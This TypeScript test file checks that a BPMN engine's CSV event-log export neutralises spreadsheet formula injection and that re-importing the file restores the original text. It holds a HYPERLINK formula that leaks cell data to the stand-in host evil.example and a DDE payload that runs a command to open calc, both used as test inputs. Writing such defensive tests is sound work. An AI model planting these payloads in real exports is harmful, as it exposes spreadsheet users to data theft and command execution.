// CSV formula injection (OWASP): an applicant's variable that names a department (gov:department="=dept") and an
// activity named like a formula reach the CSV event log as text a spreadsheet shows, not runs — and the import
// reads back exactly what the case had.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import t from 'tap';
import { csvCell, csvCellValue } from '../../engine/metrics/event-log-format.js';
import { bearer, buildTestApp, TOKENS } from '../helpers/test-app.js';
import { testDatabases } from '../helpers/test-database.js';
import { deploy, importLog } from './metrics-helpers.js';

/** What Excel, LibreOffice and WPS start a formula with (OWASP), and the full-width forms. */
const FORMULA = /^[=+\-@\t\r＝＋－＠]/;
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
const DDE = "+cmd|' /C calc'!A0";

const bpmn = (name: string) => `<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:gov="urn:reflow:gov:1" id="defs" targetNamespace="urn:reflow:test">
  <bpmn:process id="injection" name="${name}" isExecutable="true">
    <bpmn:startEvent id="start" />
    <bpmn:userTask id="review" name="${DDE.replace(/'/g, '&apos;')}" gov:department="=dept" />
    <bpmn:userTask id="sign" name="-2+3" gov:department="@公安" />
    <bpmn:endEvent id="end" />
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="review" />
    <bpmn:sequenceFlow id="f2" sourceRef="review" targetRef="sign" />
    <bpmn:sequenceFlow id="f3" sourceRef="sign" targetRef="end" />
  </bpmn:process>
</bpmn:definitions>`;

t.test('escaping is undone exactly by the import, and what it writes never starts a formula', async (t) => {
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string(),
        fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '＝', 'a', ' ', '"') }),
      ),
      (value) => {
        const cell = csvCell(value);
        return csvCellValue(cell) === value && !FORMULA.test(cell);
      },
    ),
    { numRuns: 2000 },
  );
  t.equal(csvCell(HYPERLINK), `'${HYPERLINK}`);
  t.equal(csvCell("'=1+1"), "''=1+1", 'a quote already there is kept: the import removes one');
  t.equal(csvCell('审查'), '审查', 'ordinary text is untouched');
  t.equal(csvCellValue("'plain"), "'plain", 'a quote before ordinary text is not an escape');
});

for (const database of testDatabases()) {
  t.test(`the CSV event log carries formulas as text (${database.name})`, async (t) => {
    const { app, close } = await buildTestApp(await database.open());
    t.teardown(close);
    await deploy(t, app, bpmn('注入测试'));
    // given a case whose department comes from the applicant's variable
    const started = await app.inject({
      method: 'POST',
      url: '/api/cases',
      headers: bearer(TOKENS.intake),
      payload: { process: 'injection', variables: { dept: HYPERLINK } },
    });
    t.equal(started.statusCode, 201, started.body);
    const caseId = started.json().id as string;
    for (const elementId of ['review', 'sign']) {
      const tasks = await app.inject({
        method: 'GET',
        url: `/api/tasks?caseId=${caseId}&status=open`,
        headers: bearer(TOKENS.admin),
      });
      const task = tasks.json().find((x: { elementId: string }) => x.elementId === elementId);
      const done = await app.inject({
        method: 'POST',
        url: `/api/tasks/${task.id}/complete`,
        headers: bearer(TOKENS.admin),
        payload: {},
      });
      t.equal(done.statusCode, 200, done.body);
    }

    // when the auditor exports the CSV log
    const res = await app.inject({
      method: 'GET',
      url: '/api/processes/injection/versions/1/log.csv',
      headers: bearer(TOKENS.auditor),
    });
    t.equal(res.statusCode, 200);

    // then no cell starts a formula; the injected ones are there, quoted
    const rows = parse(res.body) as string[][];
    t.equal(rows.length, 1 + 4, 'header, a start and a complete per task');
    t.same(
      rows.flat().filter((cell) => FORMULA.test(cell)),
      [],
      'no cell starts with = + - @ tab or CR',
    );
    const review = rows.filter((r) => r[2] === 'review');
    t.same(
      review.map((r) => [r[1], r[3]]),
      [
        [`'${DDE}`, `'${HYPERLINK}`],
        [`'${DDE}`, `'${HYPERLINK}`],
      ],
    );
    t.same(
      rows.filter((r) => r[2] === 'sign').map((r) => [r[1], r[3]]),
      [
        ["'-2+3", "'@公安"],
        ["'-2+3", "'@公安"],
      ],
    );

    // and importing that file into another version gives back the departments and activities as they were
    t.equal(await deploy(t, app, bpmn('注入测试 2')), 2, 'version 2: the same elements under another name');
    const imported = await importLog(app, 'injection', 2, res.body, 'text/csv');
    t.equal(imported.statusCode, 200, imported.body);
    t.match(imported.json(), { imported: 1, unmatched: [] });
    const again = await app.inject({
      method: 'GET',
      url: '/api/processes/injection/versions/2/log.csv',
      headers: bearer(TOKENS.auditor),
    });
    const back = (parse(again.body) as string[][]).slice(1).map((r) => r.slice(1, 5));
    t.same(
      back,
      rows.slice(1).map((r) => r.slice(1, 5)),
      'the re-export is cell for cell the export',
    );
    const cases = await app.inject({
      method: 'GET',
      url: '/api/cases?process=injection&version=2',
      headers: bearer(TOKENS.auditor),
    });
    const importedCase = await app.inject({
      method: 'GET',
      url: `/api/cases/${cases.json().items[0].id}`,
      headers: bearer(TOKENS.auditor),
    });
    t.same(
      importedCase
        .json()
        .timeline.map((s: { elementId: string; name: string; department: string }) => [
          s.elementId,
          s.name,
          s.department,
        ]),
      [
        ['review', DDE, HYPERLINK],
        ['sign', '-2+3', '@公安'],
      ],
      'the imported steps hold the original text',
    );
  });
}
